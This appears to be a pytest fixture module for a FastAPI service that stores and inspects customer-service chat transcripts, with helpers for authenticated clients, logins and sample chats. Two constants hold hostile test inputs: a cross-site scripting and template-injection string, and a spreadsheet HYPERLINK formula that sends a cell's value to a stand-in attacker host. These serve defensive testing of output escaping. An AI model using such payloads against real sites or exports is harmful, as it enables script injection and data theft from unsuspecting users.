from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
from fastapi.testclient import TestClient

from api.app import create_app
from qa_service.workflows.ports import UnitOfWork
from tests.fakes.services import FakeServices

ATTACK = '<script>alert(1)</script><img src=x onerror="alert(2)">\'"{{7*7}}'
FORMULA = '=HYPERLINK("http://evil.example?x="&A1,"click")'


@pytest.fixture
def services(unit_of_work: UnitOfWork) -> FakeServices:
    return FakeServices(unit_of_work=unit_of_work)


@pytest.fixture
def client(services: FakeServices) -> Iterator[TestClient]:
    """Calls the API with a key; the pages with `page`."""
    with TestClient(create_app(services)) as client:
        client.headers["Authorization"] = f"Bearer {services.access.new_key('test')}"
        yield client


@pytest.fixture
def page(client: TestClient, services: FakeServices) -> TestClient:
    client.get("/login", params={"token": services.access.new_login_token()})
    return client


def chat(**fields: Any) -> dict[str, Any]:
    """A chat with a hit, and every field of a person's making as `fields` say."""
    return {
        "external_id": "c-1",
        "shop": "demo",
        "started_at": "2026-11-02T09:58:00+08:00",
        "agents": [{"id": "a-7", "name": "小林"}],
        "turns": [
            {"role": "customer", "text": "太差了"},
            {"role": "agent", "sender_id": "a-7", "text": "亲，七天内都可以退的哦"},
        ],
    } | fields


def store(client: TestClient, services: FakeServices, document: dict[str, Any]) -> str:
    """Hand it in and inspect it; its id."""
    answer = client.post("/v1/conversations", json=document)
    assert answer.status_code == 202, answer.text
    services.work()
    return str(answer.json()["id"])
